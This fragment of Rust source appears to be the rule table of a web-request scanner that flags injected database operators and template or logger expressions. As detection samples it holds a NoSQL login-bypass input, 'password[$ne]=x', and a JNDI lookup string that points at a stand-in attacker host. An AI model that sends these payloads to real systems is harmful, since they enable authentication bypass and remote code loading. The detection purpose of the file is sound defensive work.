        message: "a name with an operator of a database",
        example: (Form, b"password[$ne]=x"), counterexample: b"password[ne]=x",
        advice: "Require that the value is text.",
        needs: &pairs(&[ASCII_TRIPLET, &[b"[].[]$"]]),
    },
    Row {
        rule: Rule::Expression, name: "expression", severity: Info, reference: "CWE-917, CWE-1336",
        message: "an expression of a template or of a logger",
        example: (Query, b"x=${jndi:ldap://evil.test/a}"), counterexample: b"x=$jndi",
        advice: "Never expand text that comes from outside.",
        needs: &text(&[ASCII_TRIPLET, &[b"{", b"T(", b"$(", b"(#", b"<"]]),
    },
];
